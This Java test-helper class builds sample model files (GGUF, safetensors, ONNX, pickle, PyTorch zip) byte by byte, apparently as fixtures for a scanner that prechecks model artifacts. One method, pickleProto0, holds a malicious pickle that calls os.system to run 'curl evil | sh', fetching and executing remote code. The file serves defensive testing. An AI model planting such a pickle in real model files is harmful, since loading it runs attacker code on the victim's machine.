package io.airlock.guard.engine;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Artifacts for the precheck tests, built byte by byte. None is ever loaded or run. */
final class Hostile {
    private Hostile() {
    }

    static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.ISO_8859_1);
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    static byte[] le64(long v) {
        return ByteBuffer.allocate(8).order(ByteOrder.LITTLE_ENDIAN).putLong(v).array();
    }

    static byte[] gguf() {
        return concat(ascii("GGUF"), new byte[]{3, 0, 0, 0}, le64(0), le64(0));
    }

    static byte[] safetensors() {
        byte[] header = ascii("{\"w\":{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4]}}");
        return concat(le64(header.length), header, new byte[4]);
    }

    /** ModelProto: ir_version 8, graph { node Identity x->y }, opset_import { "" 13 }. */
    static byte[] onnx() {
        byte[] node = concat(new byte[]{0x0a, 1, 'x', 0x12, 1, 'y', 0x22, 8}, ascii("Identity"));
        byte[] graph = concat(new byte[]{0x0a, (byte) node.length}, node);
        return concat(new byte[]{0x08, 0x08, 0x3a, (byte) graph.length}, graph, new byte[]{0x42, 4, 0x0a, 0, 0x10, 13});
    }

    /** Protocol 2 pickle of the int 1. */
    static byte[] pickle() {
        return new byte[]{(byte) 0x80, 0x02, 'K', 0x01, '.'};
    }

    /** Protocol 0 pickle calling os.system: printable ASCII that is no Python source. */
    static byte[] pickleProto0() {
        return ascii("cos\nsystem\n(S'curl evil | sh'\ntR.");
    }

    static byte[] torchLegacy() {
        return new byte[]{(byte) 0x80, 0x02, (byte) 0x8a, 0x0a, 0x6c, (byte) 0xfc, (byte) 0x9c, 0x46, (byte) 0xf9, 0x20,
                0x6a, (byte) 0xa8, 0x50, 0x19, 0x2e, (byte) 0x80, 2, 'M', (byte) 0xe9, 0x03, '.'};
    }

    static byte[] zip(String... names) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(out)) {
            for (String n : names) {
                z.putNextEntry(new ZipEntry(n));
                z.write(n.endsWith(".pkl") ? pickle() : ascii(n));
                z.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    static byte[] pytorchZip() {
        return zip("archive/data.pkl", "archive/data/0", "archive/version");
    }

    static byte[] kernel() {
        return ascii("""
                import torch
                import triton

                def custom_kernel(data):
                    a, b = data
                    return a @ b
                """);
    }

    static byte[] random(int n) {
        byte[] b = new byte[n];
        new Random(42).nextBytes(b);
        b[0] = (byte) 0xfe;
        return b;
    }
}
